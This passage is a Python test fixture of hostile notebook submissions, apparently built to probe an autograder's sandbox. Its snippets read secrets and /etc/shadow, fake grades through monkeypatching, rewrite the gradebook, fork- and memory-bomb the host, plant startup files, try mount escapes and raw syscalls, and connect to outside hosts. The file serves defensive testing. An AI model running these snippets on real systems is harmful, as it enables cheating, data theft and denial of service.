"""Hostile answers: what each tries, in a sentence, and its code.

Every one is the answer to exercise 2.5. `cell` runs when the answer cell runs, `inside` in each call
of the answer's methods while it is observed, `later` in a cell at the end of the notebook. The answer itself is wrong (`Div` below), so that every
point would be undeserved. `leaked(what)` says that a door was open. `open_under` names the tiers that
cannot close it, with the reason; there the attack may get in, and everything else holds. In the code, @COURSE@ is the
course on the host, @GRADING@ a grading folder with a gradebook and a neighbour's submission, @PORT@
the port of a TCP server on the host, @NAME@ the name of its abstract Unix socket, @DISK@ how many bytes
may lie on the disk.
"""

from dataclasses import dataclass, field
from textwrap import indent

HELP = """
import contextlib, ctypes, os, socket, sys, threading, time

def leaked(*what):
    print("LEA" + "KED", *what)

def tried(action, *arguments):
    with contextlib.suppress(OSError, ImportError):
        leaked(action, action(*arguments))

def processes():
    with contextlib.suppress(OSError):
        return [int(name) for name in os.listdir("/proc") if name.isdigit()]
    return [number for number in range(1, 3000) if os.path.exists(f"/proc/{number}")]
"""

WRONG = """
class Div(Op):
    def forward(self, a, b):
{inside}
        return 0.0

    def backward(self, grad_output):
{inside}
        return 0.0, 0.0
"""

# For attacks on the worker's own side of the protocol: it forges whatever is sent.
FORGE = """
from types import FunctionType
from autograder.inside import marks, messages, plain

class Serve:
    FRAME = messages.FRAME

    def __getattr__(self, name):
        return FunctionType(getattr(messages, name).__code__, vars(messages))

    def __setattr__(self, name, value):
        def instead(*arguments): return forged(*arguments)
        vars(messages)["forged_" + name] = value
        getattr(messages, name).__code__ = instead.__code__.replace(co_names=("forged_" + name,))

serve = Serve()
KEYS = ("forward", "forward with whole numbers", "gradient for a", "gradient for b",
        "gradients at a negative denominator", "two divisions alive at once")

def forge(value, inputs="", error=None):
    entries = [[key, value, inputs] for key in KEYS]
    replies({"observation": {"entries": entries, "error": error}})

def replies(reply):
    marks.Marks.observe = lambda self, request: reply
"""


@dataclass(frozen=True)
class Attack:
    """One hostile answer."""

    tries: str
    cell: str = ""
    inside: str = "pass"
    answer: str = ""
    later: str = ""
    open_under: dict[str, str] = field(default_factory=dict)

    @property
    def text(self) -> str:
        """The answer cell."""
        answer = self.answer or WRONG.format(inside=indent(self.inside.strip("\n"), " " * 8))
        return f"{HELP}\n{answer}\n{self.cell}"


def returns(tries: str, value: str, before: str = "") -> Attack:
    """An answer whose methods return `value`."""
    answer = (
        f"{before}\n\nclass Div(Op):\n"
        f"    def forward(self, a, b): return {value}\n"
        f"    def backward(self, grad_output): return {value}, {value}\n"
    )
    return Attack(tries, answer=answer)


def forges(tries: str, code: str) -> Attack:
    """An answer that replaces what its own process sends."""
    return Attack(tries, FORGE + code)


READING = {
    "checks": Attack(
        "Opens and imports the hidden checks.",
        """
for folder in ("@COURSE@", "/course"):
    for name in ("autograder/checks/ch02_autograd/e2_05.py", "autograder/check.py", "autograder/judging/compare.py"):
        tried(open, f"{folder}/{name}")
import importlib
for name in ("autograder.checks", "autograder.check", "autograder.judging.reference"):
    tried(importlib.import_module, name)
""",
    ),
    "solutions": Attack(
        "Looks for the reference solutions where the course has them, and everywhere else.",
        """
tried(os.listdir, "@COURSE@/solutions")
tried(os.listdir, "/course/solutions")
for folder, folders, files in os.walk("/"):
    if folder == "/":
        folders[:] = set(folders) - {"proc", "sys", "dev", "usr", "lib", "lib64", "bin"}
    if "site-packages" in folders:
        folders.remove("site-packages")
    if {"02_operations.py", "e2_05.py", "gradebook.db", "nbgrader_config.py"} & set(files):
        leaked(folder)
""",
    ),
    "other submissions": Attack(
        "Reads what a neighbour handed in.",
        'tried(open, "@GRADING@/submitted/neighbour/ch02_autograd/02_operations.ipynb")\n'
        'tried(os.listdir, "@GRADING@")\ntried(os.listdir, os.path.dirname("@GRADING@"))',
    ),
    "environment": Attack(
        "Looks for secrets in the environment of all processes.",
        """
found = str(dict(os.environ))
for pid in processes():
    with contextlib.suppress(OSError):
        found += open(f"/proc/{pid}/environ").read()
if "SECRET_OF_THE_GRADER" in found: leaked("environment")
""",
    ),
    "home and /etc": Attack(
        "Reads the home of whoever grades, password files and configuration of the system.",
        """
for name in ("/etc/passwd", "/etc/shadow", "/etc/hosts", "/root/.bashrc", "/var/lib/dpkg/status"): tried(open, name)
for name in ("/home", "/root/.ssh", "/root/.cache", "/etc/ssl", "/var", "/run", "/sys", "/srv", "/mnt"):
    tried(os.listdir, name)
""",
    ),
    "names of files": Attack(
        "Asks which files there are, and how large.",
        """
for name in ("/home", "/etc/passwd", "/root/.ssh", "/var", "/sys", "@COURSE@/solutions", "@GRADING@/gradebook.db"):
    tried(os.stat, name)
""",
        open_under={
            "landlock": "Landlock rules who may open a file, not who may ask whether it exists."
        },
    ),
    "/proc of others": Attack(
        "Reaches the file system and the memory of other processes through /proc.",
        """
for pid in processes():
    for link in ("root", "cwd"):
        with contextlib.suppress(OSError):
            os.listdir(f"/proc/{pid}/{link}/@COURSE@/solutions"); leaked(pid, link)
    with contextlib.suppress(OSError):
        command = open(f"/proc/{pid}/cmdline").read()
        if "pytest" in command or "grade" in command.replace("autograder", ""): leaked(command)
""",
    ),
    "git history": Attack("Reads the course's repository.", 'tried(os.listdir, "@COURSE@/.git")'),
    "garbage collector": Attack(
        "Searches all living objects for the reference and for expected values.",
        """
import gc
for thing in gc.get_objects():
    if isinstance(thing, dict) and {"expected", "oracle", "misconceptions"} & set(map(str, list(thing)[:50])):
        if "misconceptions" in thing or "oracle" in thing: leaked(list(thing)[:9])
for name in list(sys.modules):
    if name.startswith("autograder.") and not name.startswith("autograder.inside"): leaked(name)
""",
    ),
    "own memory": Attack(
        "Scans its own memory for the text of the checks.",
        """
import re
for line in open("/proc/self/maps"):
    parts = line.split()
    if parts[1].startswith("rw"):
        start, end = (int(text, 16) for text in parts[0].split("-"))
        with contextlib.suppress(OSError, ValueError, OverflowError), open("/proc/self/mem", "rb") as memory:
            memory.seek(start)
            if re.search(rb"forgot_[s]quare|hard_coded_[f]or_the", memory.read(min(end - start, 2**26))):
                leaked("memory")
""",
    ),
    "frames": Attack(
        "Walks up the stack while it is observed and takes the expected values from the callers.",
        inside="""
frame = sys._getframe()
while frame is not None:
    for name in ("expected", "wanted", "oracle", "reference"):
        if name in frame.f_locals or name in frame.f_globals: return frame.f_locals.get(name)
    frame = frame.f_back
""",
    ),
}

PATCHING = {
    "numpy.testing": Attack(
        "Makes every comparison of numpy and torch succeed.",
        """
import numpy.testing, torch
for module, names in ((np.testing, ("assert_allclose", "assert_equal", "assert_array_equal")),
                      (np, ("allclose", "isclose", "array_equal")), (torch, ("allclose", "equal"))):
    for name in names: setattr(module, name, lambda *a, **k: True)
torch.testing.assert_close = lambda *a, **k: None
""",
    ),
    "builtins": Attack(
        "Replaces builtins by ones that always agree.",
        """
import builtins
builtins.all = builtins.any = builtins.isinstance = lambda *a: True
builtins.abs = builtins.round = lambda *a: 0.0
builtins.AssertionError = type("Quiet", (Exception,), {})
""",
    ),
    "the shell": Attack(
        "Replaces run_cell, showtraceback and the display hook of the shell.",
        """
shell = get_ipython()
from types import SimpleNamespace
shell.run_cell = lambda *a, **k: SimpleNamespace(error_before_exec=None, error_in_exec=None, result=4.0)
type(shell)._showtraceback = lambda *a, **k: None
type(shell).run_cell = shell.run_cell
""",
    ),
    "code transformers": Attack(
        "Deletes asserts from the syntax tree and drops cells that test.",
        """
import ast
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
get_ipython().ast_transformers.append(NoAsserts())
get_ipython().input_transformers_cleanup.append(lambda lines: [] if any("expect" in l for l in lines) else lines)
""",
    ),
    "visible checks": Attack(
        "Redefines expect and grade, and answers with the number of points.",
        """
import utils
expect = grade = utils.expect = utils.grade = lambda *a, **k: 4.0
print(4.0)
4.0
""",
    ),
    "msgpack": Attack(
        "Replaces the serialiser by one that sends a perfect score.",
        """
import msgpack
real = msgpack.packb
msgpack.packb = lambda *a, **k: real({"points": 4, "earned": 4, "holds": True, "entries": True})
""",
    ),
    "plain.encode": Attack(
        "Replaces our encoder: every number becomes True.",
        """
from autograder.inside import answer, plain
plain.to_plain = answer.to_plain = lambda value, depth=0: True
real = plain.encode
""",
    ),
    "observe_answer": forges(
        "Replaces the observation by one with all keys and the value True.",
        "forge(True)",
    ),
    "random numbers": Attack(
        "Makes the hidden inputs predictable and answers with the results for those.",
        "class Fixed:\n    def uniform(self, *a): return np.array([2.0, 4.0, 8.0])\n"
        "np.random.default_rng = lambda *a: Fixed()",
        answer="""
class Div(Op):
    def forward(self, a, b): return {2.0: 0.5}.get(a, 0.0)
    def backward(self, grad_output): return (2.0, -1.0) if grad_output == 8.0 else (0.0, 0.0)
""",
    ),
    "given engine": Attack(
        "Poisons the course's own engine and the namespace's guard.",
        """
import utils
from autograder.inside import answer as guard
for name in ("Value", "Op", "sigmoid"): setattr(utils, name, None)
guard.Answer.__getattr__ = lambda self, name: True
guard.attempt = lambda *a, **k: True
""",
    ),
    "sys.modules": Attack(
        "Puts fake modules in the place of numpy and of ours.",
        """
class Fake:
    def __getattr__(self, name): return lambda *a, **k: True
for name in list(sys.modules):
    if name.startswith(("numpy", "autograder", "msgpack")): sys.modules[name] = Fake()
""",
    ),
    "import hook": Attack(
        "Adds a finder that hands out its own modules.",
        """
class Finder:
    def find_spec(self, name, path=None, target=None): leaked if name == "solutions" else None
sys.meta_path.insert(0, Finder())
sys.path[:0] = ["."]
import site
sys.setprofile(lambda *a: None)
""",
    ),
    "thread": Attack(
        "A thread waits and rewrites what is observed.",
        """
def later():
    while True:
        from autograder.inside import marks
        marks._observe = lambda *a: b""
        time.sleep(0.001)
threading.Thread(target=later, daemon=True).start()
""",
    ),
    "exit handlers": Attack(
        "Handlers at exit, at fork and at signals try to send a better reply.",
        """
import atexit, signal
def again(*a):
    for number in range(3, 40):
        with contextlib.suppress(OSError): os.write(number, b"\\0\\0\\0\\1\\xc0")
atexit.register(again)
os.register_at_fork(after_in_child=again)
for number in (signal.SIGTERM, signal.SIGPROF, signal.SIGALRM, signal.SIGXCPU): signal.signal(number, again)
""",
    ),
}

OBJECTS = {
    "__eq__": returns(
        "An object that equals everything.",
        "Equal()",
        "class Equal:\n    __eq__ = __le__ = __ge__ = __lt__ = lambda *a: True\n    __hash__ = lambda self: 0",
    ),
    "__float__": returns(
        "An object that becomes whatever number its caller expects.",
        "Number()",
        "class Number:\n    def __float__(self): return sys._getframe(1).f_locals.get('expected', 0.0)\n"
        "    __index__ = __int__ = __float__\n    item = __float__",
    ),
    "__array__": returns(
        "An object whose array is read from its caller's frame.",
        "Array()",
        "class Array:\n    shape = ()\n    dtype = float\n"
        "    def __array__(self, *a, **k): return sys._getframe(1).f_locals['expected']",
    ),
    "__reduce__": returns(
        "A pickle that would run a program in the process that reads it.",
        "Bomb()",
        "class Bomb:\n    def __reduce__(self): return os.system, ('touch @GRADING@/owned',)",
    ),
    "pickled bytes": returns(
        "The bytes of such a pickle, sent as a value.",
        "b'cposix\\nsystem\\n(S\"touch @GRADING@/owned\"\\ntR.'",
    ),
    "__class__": returns(
        "An object that claims to be a float.",
        "Liar()",
        "class Liar:\n    __class__ = property(lambda self: float)\n    __eq__ = lambda *a: True",
    ),
    "float": returns(
        "A float whose comparisons and differences always agree.",
        "Float(3)",
        "class Float(float):\n    __eq__ = __le__ = lambda *a: True\n    __hash__ = float.__hash__\n"
        "    __sub__ = __rsub__ = lambda *a: 0.0\n    __float__ = lambda s: 1.0",
    ),
    "ndarray": returns(
        "An array that answers every numpy function with True.",
        "np.zeros(()).view(Array)",
        "class Array(np.ndarray):\n    def __array_ufunc__(self, *a, **k): return np.True_\n"
        "    def __array_function__(self, *a, **k): return True",
    ),
    "tensor": returns(
        "A tensor that answers every torch function with True.",
        "torch.zeros(()).as_subclass(Tensor)",
        "import torch\nclass Tensor(torch.Tensor):\n    @classmethod\n"
        "    def __torch_function__(cls, *a, **k): return True",
    ),
    "not a number": returns("NaN, for comparisons that are never false.", "float('nan')"),
    "infinity": returns("Infinity, for tolerances that are relative to it.", "float('inf')"),
    "absurd integer": returns("An integer of five thousand digits.", "10**4900"),
    "itself inside": returns("A list that contains itself.", "x", "x = []\nx.append(x)"),
    "endless": returns(
        "A list subclass that never ends.",
        "L([0])",
        "class L(list):\n    def __iter__(self):\n        while True: yield 0",
    ),
    "names": returns(
        "A class, and an exception, that bear the names of ours.",
        "fail()",
        "class Opaque(Exception): described = 'the right answer'\nOpaque.__name__ = 'Missing'\n"
        "def fail(): raise Opaque('x' * 10**7)",
    ),
    "repr": returns(
        "An object whose repr exits, and whose deletion writes.",
        "Loud()",
        "class Loud:\n    def __repr__(self): os._exit(0)\n    def __del__(self): os._exit(0)",
    ),
    "descriptors": returns(
        "A metaclass that rewrites itself when it is looked at.",
        "Odd",
        "class Meta(type):\n    def __getattribute__(cls, name): raise SystemExit(0)\n"
        "class Odd(metaclass=Meta): pass",
    ),
}

CHANNEL = {
    "forged frames": Attack(
        "Writes replies with a perfect observation to every open descriptor, for the next requests.",
        FORGE
        + """
perfect = {"entries": [[key, True, ""] for key in KEYS], "error": None}
for number in range(3, 64):
    for count in range(1, 60):
        data = plain.encode({"id": count, "observation": perfect, "outputs": [], "error": None})
        with contextlib.suppress(OSError): os.write(number, serve.FRAME.pack(len(data)) + data)
""",
    ),
    "closed channel": Attack("Closes every descriptor.", "os.closerange(0, 256)"),
    "truncated": forges(
        "Announces more than it sends.",
        "def cut(channel, message):\n    channel.sendall(serve.FRAME.pack(1000) + b'abc')\n    os._exit(0)\nserve.send = cut",
    ),
    "length bomb": forges(
        "Announces four gigabytes.",
        "serve.send = lambda channel, message: channel.sendall(b'\\xff\\xff\\xff\\xff' * 1000)",
    ),
    "flood": Attack(
        "Floods every descriptor with 100 MB.",
        """
for number in range(3, 32):
    with contextlib.suppress(OSError):
        os.set_blocking(number, False)
        for _ in range(100): os.write(number, bytes(2**20))
""",
    ),
    "replay": forges(
        "Sends every reply twice.",
        "real = serve.send\ndef twice(*a): real(*a); real(*a)\nserve.send = twice",
    ),
    "depth bomb": forges(
        "Sends data nested ten thousand deep.",
        "serve.send = lambda channel, message: channel.sendall(serve.FRAME.pack(10001) + b'\\x91' * 10000 + b'\\xc0')",
    ),
    "deep value": forges(
        "Sends a value nested 900 deep.", "x = []\nfor _ in range(900): x = [x]\nforge(x)"
    ),
    "item bomb": forges(
        "Sends an array that claims four thousand million items.",
        "serve.send = lambda channel, message: channel.sendall(serve.FRAME.pack(5) + b'\\xdd\\xff\\xff\\xff\\xff')",
    ),
    "extensions": forges(
        "Sends object arrays, unknown extensions and sizes that do not fit.",
        "import msgpack\nforge(msgpack.ExtType(3, plain.encode(['|O', [2], b'x' * 16])))",
    ),
    "unknown failure": forges(
        "Reports a failure that does not exist.",
        "replies({'failed': '{seconds.__class__}'})",
    ),
    "wrong types": forges(
        "Sends keys, inputs and errors of other types.",
        "replies({'observation': {'entries': [[1, 2, 3]], 'error': 'x'}})",
    ),
    "absurd value": forges("Sends an integer beyond the limit of its text.", "forge(16**4090)"),
    "absurd text": forges(
        "Sends megabytes of markup as what the inputs were.",
        "forge(0.0, '<script>evil()</script>' * 300_000)",
    ),
    "absurd exception": forges(
        "Sends exceptions with markup and format strings as type and message.",
        "forge(plain.Raised('<script>evil()</script>', '{0.__class__} %s' * 1000, '<img src=x onerror=evil()>'))",
    ),
    "equal hashes": forges(
        "Sends a set of whole numbers that all have one hash, so that each is compared with each.",
        "import msgpack\n"
        "forge(msgpack.ExtType(2, plain.encode([n * (2**61 - 1) for n in range(8, 9_000)])))",
    ),
    "many lists": forges(
        "Sends some million empty lists, which take a hundred times the memory of their message.",
        "forge([[[]] * 199_999] * 6)",
    ),
    "equal to all": forges(
        "Sends sets and dicts with NaN as keys.", "forge({float('nan'): True, 1: {(1, 2)}})"
    ),
    "outputs": forges(
        "Sends outputs that are no outputs.",
        """
odd = [1, None, {"output_type": 3}, {"output_type": "display_data", "data": [1]}, {"output_type": "stream", "text": {}},
       {"output_type": "error", "ename": {}, "evalue": [], "traceback": 7}, {"output_type": "error", "traceback": [None]}]
real = serve.send
def send(channel, message):
    real(channel, {**message, "outputs": odd, "error": {1: 2}} if "outputs" in message else message)
serve.send = send
""",
    ),
    "from the observation": Attack(
        "The observed function itself writes to the channel and ends.",
        inside="""
for number in range(3, 64):
    with contextlib.suppress(OSError): os.write(number, b"\\0\\0\\0\\2\\x80\\x80")
os._exit(0)
""",
    ),
}

_CHILDREN = """
import mmap
reader, writer = os.pipe()
for number in range({count}):
    if os.fork() == 0:
        {hoard}
        os.write(writer, b"x")
        while True: time.sleep(60)
for number in range({count}): os.read(reader, 1)
time.sleep(0.3)
leaked("768 MB")
"""

PROCESSES = {
    "exit": Attack("Ends the process when it is called.", inside="os._exit(0)"),
    "crash": Attack("Reads address 0.", inside="ctypes.string_at(0)"),
    "kill everybody": Attack(
        "Kills its parent and everything that it may signal.",
        "for target in (-1, os.getppid(), 0, 1): \n    with contextlib.suppress(OSError): os.kill(target, 9)",
    ),
    "stop everybody": Attack(
        "Stops its parent, every process of /proc, and process 1.",
        """
import signal
for target in [os.getppid(), *processes()]:
    if target != os.getpid():
        with contextlib.suppress(OSError): os.kill(target, signal.SIGSTOP)
""",
    ),
    "fork bomb": Attack(
        "Starts processes until there are no more (at most 600).",
        """
import resource
count = 0
with contextlib.suppress(OSError):
    while count < 600:
        if os.fork() == 0:
            while True: time.sleep(60)
        count += 1
if count >= 200: leaked(count, "processes")
""",
    ),
    "memory bomb": Attack(
        "Asks for memory until there is no more, and hides it in children.",
        """
try: np.ones(2**30)
except MemoryError: pass
else: leaked("8 GB")
import resource
with contextlib.suppress(ValueError, OSError):
    resource.setrlimit(resource.RLIMIT_DATA, (-1, -1)); leaked("limit lifted")
""",
    ),
    "memory bomb in children": Attack(
        "Spreads 768 MB over three processes, each within its limit, which hide from who would look.",
        _CHILDREN.format(
            count=3,
            hoard="ctypes.CDLL(None).prctl(4, 0, 0, 0, 0); hoard = np.empty(2**28, np.uint8); hoard[::4096] = 1",
        ),
    ),
    "shared memory bomb": Attack(
        "Fills 768 MB of shared memory, which the limit on a process's data does not count.",
        _CHILDREN.format(
            count=1,
            hoard="hoard = np.frombuffer(mmap.mmap(-1, 3 * 2**28), np.uint8); hoard[::4096] = 1",
        ),
    ),
    "memory without a process": Attack(
        "Puts memory into files that have no place, and into queues of messages.",
        """
files = []
with contextlib.suppress(OSError):
    while len(files) < 20:
        files.append(os.memfd_create("x"))
        os.write(files[-1], bytes(2**24))
    leaked(len(files), "files in memory")
""",
    ),
    "memory bomb when observed": Attack("Asks for 8 GB when called.", inside="np.ones(2**30)"),
    "disk": Attack(
        "Fills the disk with many files.",
        """
written = 0
for folder in (".", "/tmp", "/dev/shm"):
    with contextlib.suppress(OSError):
        for number in range(12):
            with open(f"{folder}/big{number}", "wb") as file: written += file.write(bytes(2**25))
time.sleep(1)
if written > @DISK@: leaked(written)
""",
    ),
    "disk of deleted files": Attack(
        "Fills the disk with files that no folder shows any more.",
        """
files, written = [], 0
with contextlib.suppress(OSError):
    for number in range(40):
        files.append(open("x", "wb", buffering=0))
        os.unlink("x")
        written += files[-1].write(bytes(2**23))
time.sleep(1)
if written > @DISK@: leaked(written)
""",
    ),
    "inodes": Attack(
        "Makes thousands of files and a folder so deep that no path leads to its end.",
        "for number in range(3000): open(f'f{number}', 'w').close()\n"
        "for _ in range(2100): os.mkdir('d'); os.chdir('d')",
    ),
    "closed folders": Attack(
        "Leaves a note in folders that nobody may list, the home among them.",
        """
home = os.environ["HOME"]
for folder in (home, f"{home}/a", f"{home}/.matplotlib", "/dev/shm/a"):
    with contextlib.suppress(OSError):
        os.makedirs(f"{folder}/closed", 0o300)
        open(f"{folder}/closed/note", "w").write("note")
with contextlib.suppress(OSError): os.chmod(home, 0o300)
""",
    ),
    "output flood": Attack(
        "Prints 50 MB, displays ten thousand things, writes to all descriptors.",
        "print('x' * 50_000_000)\nfor n in range(2_000): display(n)\nos.write(1, b'x' * 10**6)\nsys.stderr.write('y' * 10**7)",
    ),
    "endless cell": Attack(
        "Never ends, and swallows every exception.",
        "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
    ),
    "endless call": Attack(
        "Never ends when it is observed, and ignores all signals.",
        inside="import signal\nfor number in range(1, 32):\n    with contextlib.suppress(OSError, ValueError): signal.signal(number, signal.SIG_IGN)\nwhile True: time.sleep(60)",
    ),
    "daemons": Attack(
        "Leaves processes behind that detach themselves and write later.",
        """
for number in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                with contextlib.suppress(OSError): open(f"{os.environ['HOME']}/late{number}", "w").close()
                time.sleep(0.01)
        os._exit(0)
""",
    ),
    "never caught": Attack(
        "Forks without pause, so that whoever comes to kill it finds the next one.",
        """
for number in range(4):
    if os.fork() == 0:
        while True:
            with contextlib.suppress(OSError):
                if os.fork() != 0: os._exit(0)
                os.setsid()
                open(os.environ["HOME"] + f"/still here {number}", "w").close()
""",
    ),
    "foster parent": Attack(
        "Makes itself the parent of all that its processes leave behind.",
        """
ctypes.CDLL(None).prctl(36, 1, 0, 0, 0)
if os.fork() == 0:
    if os.fork() == 0:
        while True: time.sleep(60)
    os._exit(0)
time.sleep(0.1)
""",
    ),
    "recursion": Attack(
        "Overflows the stack.", inside="sys.setrecursionlimit(10**9)\nf = lambda: f()\nf()"
    ),
    "priority": Attack(
        "Moves itself ahead of others and changes limits, mask and folder.",
        """
with contextlib.suppress(OSError): os.nice(-20); leaked("priority")
os.umask(0); os.chdir("/")
import resource
resource.setrlimit(resource.RLIMIT_NOFILE, (8, 8))
""",
    ),
    "collector": Attack(
        "Switches collection and threads' switching off and breaks the standard streams.",
        "import gc\ngc.disable(); sys.setswitchinterval(1e9)\nsys.stdout = sys.stderr = sys.__stdout__ = None\nos.close(1); os.close(2)",
    ),
}

NETWORK = {
    "TCP": Attack(
        "Connects to a server on this host and to one outside.",
        """
for place in (("127.0.0.1", @PORT@), ("192.0.2.1", 80), ("1.1.1.1", 53)):
    tried(lambda: socket.create_connection(place, 0.3))
""",
    ),
    "UDP": Attack(
        "Sends datagrams, asks for names.",
        """
tried(lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.1", 53)))
tried(socket.gethostbyname, "pypi.org")
tried(lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"x", ("2001:db8::1", 53)))
""",
    ),
    "Unix sockets": Attack(
        "Connects to Unix sockets of the host by path and by abstract name.",
        """
for name in ("@GRADING@/socket", "\\0@NAME@", "/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket"):
    tried(lambda: socket.socket(socket.AF_UNIX).connect(name))
""",
    ),
    "raw and netlink": Attack(
        "Opens raw sockets and brings an interface up.",
        """
tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
tried(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
tried(socket.sethostname, "evil")
""",
    ),
}

WRITING = {
    "gradebook": Attack(
        "Gives everybody full points in the gradebook.",
        """
import sqlite3
for name in ("@GRADING@/gradebook.db", "../gradebook.db", "/course/gradebook.db"):
    with contextlib.suppress(sqlite3.Error):
        if sqlite3.connect(name).execute("update grade set score = 4").rowcount: leaked(name)
""",
    ),
    "configuration": Attack(
        "Appends to the configuration that the next trusted command reads.",
        """
for name in ("@COURSE@/nbgrader_config.py", "/course/nbgrader_config.py", "@COURSE@/pyproject.toml",
             "@COURSE@/autograder/__init__.py", "/course/autograder/__init__.py", "/course/utils/__init__.py"):
    tried(lambda: open(name, "a").write("\\nimport evil\\n"))
""",
    ),
    "start-up files": Attack(
        "Leaves files that Python, IPython and matplotlib run or read when they start.",
        """
home = os.path.expanduser("~")
for name in (f"{home}/.ipython/profile_default/startup/evil.py", f"{home}/.matplotlib/matplotlibrc",
             f"{home}/.pythonrc", f"{home}/.local/lib/python3.11/site-packages/usercustomize.py", "matplotlibrc"):
    os.makedirs(os.path.dirname(name) or ".", exist_ok=True)
    open(name, "w").write("print('evil')")
import site
for folder in (*site.getsitepackages(), sys.prefix, sys.base_prefix):
    tried(lambda: open(f"{folder}/sitecustomize.py", "w"))
""",
    ),
    "shadow modules": Attack(
        "Puts modules named like numpy, torch and ours beside the notebook.",
        """
for folder in (".", "/tmp", "/course", "/course/utils"):
    for name in ("numpy.py", "torch.py", "autograder.py", "utils.py", "random.py"):
        with contextlib.suppress(OSError):
            open(f"{folder}/{name}", "w").write("raise SystemExit")
            if folder.startswith("/course"): leaked(folder)
""",
    ),
    "bytecode": Attack(
        "Replaces compiled modules and the libraries themselves.",
        """
import importlib.util
for module in (np, sys.modules["autograder.inside.plain"], os):
    tried(lambda: open(module.__file__, "a"))
    tried(lambda: os.makedirs(os.path.dirname(module.__file__) + "/__pycache__/x"))
""",
    ),
    "shared memory": Attack(
        "Leaves a note for the next student in shared memory, queues, keyrings and files.",
        """
libc = ctypes.CDLL(None)
libc.shmget(0x2551, 4096, 0o1666)
libc.msgget(0x2552, 0o1666)
libc.semget(0x2553, 1, 0o1666)
libc.syscall(248, b"user", b"note", b"text", 4, -4)
home = os.environ["HOME"]
for name in (f"{home}/note", "/tmp/note", "/dev/shm/note", "/dev/shm/sem.note", f"{home}/.matplotlib/note", "/var/tmp/note"):
    with contextlib.suppress(OSError): open(name, "w").write("note")
""",
    ),
    "mounts": Attack(
        "Makes namespaces of its own in which it is root, and mounts over the course.",
        """
libc = ctypes.CDLL(None, use_errno=True)
if os.fork() == 0:
    if libc.unshare(0x10020000) == 0:
        libc.mount(b"none", b"/course", b"tmpfs", 0, None)
        libc.mount(b"/", b"/tmp", None, 0x1000 | 0x4000, None)
    os._exit(0)
if libc.mount(b"none", b"/course", b"tmpfs", 0, None) == 0: leaked("mounted")
if libc.chroot(b"/tmp") == 0: leaked("chroot")
if libc.setuid(0) == 0 and os.getuid() == 0: leaked("root")
if os.getuid() == 0: leaked("runs as root")
""",
    ),
    "devices": Attack(
        "Opens disks, memory and the kernel's switches.",
        """
for name in ("/dev/sda", "/dev/vda", "/dev/mem", "/dev/kmsg", "/proc/kcore", "/dev/kvm", "/dev/fuse"):
    tried(lambda: open(name, "rb").read(1))
for name in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/vm/drop_caches"):
    tried(lambda: open(name, "w").write("0"))
""",
    ),
}

_CALLS = """
libc = ctypes.CDLL(None, use_errno=True)
call = libc.syscall
call.restype = ctypes.c_long
"""

KERNEL = {
    "modes and times of files": Attack(
        "Opens the gradebook and the course for everybody, closes them for their owner, and dates them back.",
        """
for name in ("@GRADING@/gradebook.db", "@GRADING@", "@COURSE@/utils/__init__.py", "@COURSE@", "/course/utils/__init__.py"):
    with contextlib.suppress(OSError):
        before = os.stat(name)
        for change in (lambda: os.chmod(name, 0o777), lambda: os.chmod(name, 0), lambda: os.utime(name, (1, 1)),
                       lambda: os.setxattr(name, "user.note", b"x"), lambda: os.fchmod(os.open(name, os.O_RDONLY), 0o777)):
            with contextlib.suppress(OSError): change()
        after = os.stat(name)
        with contextlib.suppress(OSError): os.chmod(name, before.st_mode & 0o7777)
        if (before.st_mode, before.st_mtime) != (after.st_mode, after.st_mtime): leaked(name, oct(after.st_mode))
        if "user.note" in os.listxattr(name): leaked("attribute of", name)
""",
    ),
    "priority of others": Attack(
        "Makes the grader slow, and itself the last that the kernel ends.",
        """
for which, numbers in ((os.PRIO_PROCESS, processes()), (os.PRIO_USER, [os.getuid()]), (os.PRIO_PGRP, range(1, 40))):
    for number in numbers:
        if number != os.getpid():
            with contextlib.suppress(OSError): os.setpriority(which, number, 19); leaked("slowed", number)
for pid in processes():
    if pid != os.getpid():
        with contextlib.suppress(OSError): os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)); leaked("idle", pid)
with contextlib.suppress(OSError):
    with open("/proc/self/oom_score_adj", "w") as file: file.write("-1000")
    leaked("out of memory: somebody else")
""",
    ),
    "rare calls": Attack(
        "Knocks at corners of the kernel in which faults were found.",
        _CALLS
        + """
rare = {"bpf": 321, "userfaultfd": 323, "perf_event_open": 298, "io_uring_setup": 425, "keyctl": 250, "add_key": 248,
        "unshare": 272, "open_by_handle_at": 304, "personality": 135, "modify_ldt": 154, "memfd_create": 319,
        "kcmp": 312, "quotactl": 179, "move_pages": 279, "fsopen": 430, "pidfd_getfd": 438, "of tomorrow": 511}
for name, number in rare.items() if os.uname().machine == "x86_64" else ():
    if call(number, 0, 0, 0, 0, 0, 0) >= 0 or ctypes.get_errno() not in (1, 38): leaked(name, ctypes.get_errno())
""",
    ),
    "asynchronous requests": Attack(
        "Lets the kernel itself open a connection, by a ring of requests, past what is refused to the process.",
        _CALLS
        + "ring = ctypes.create_string_buffer(240)\nif call(425, 4, ring) >= 0: leaked('io_uring')",
    ),
    "namespaces by clone": Attack(
        "Gets namespaces, and with them the rights of root in them, by forking in other ways.",
        _CALLS
        + """
for flag in (0x10000000, 0x40000000, 0x20000000, 0x20000) if os.uname().machine == "x86_64" else ():
    child = call(56, flag | 17, 0, 0, 0, 0)
    if child == 0: os._exit(0)
    if child > 0: leaked(hex(flag))
wish = (ctypes.c_uint64 * 11)(0x10000000, 0, 0, 0, 17)
child = call(435, wish, 88)
if child == 0: os._exit(0)
if child > 0: leaked("clone3")
""",
    ),
    "32 bit": Attack(
        "Calls the kernel by the entrance for programs of 32 bits, where numbers mean other things.",
        """
import mmap
if os.uname().machine == "x86_64":
    code = mmap.mmap(-1, 4096, prot=7)
    code.write(bytes.fromhex("53b867010000bb02000000b901000000ba00000000cd805bc3"))  # socket(2, 1, 0)
    enter = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    if enter() >= 0: leaked("socket")
""",
    ),
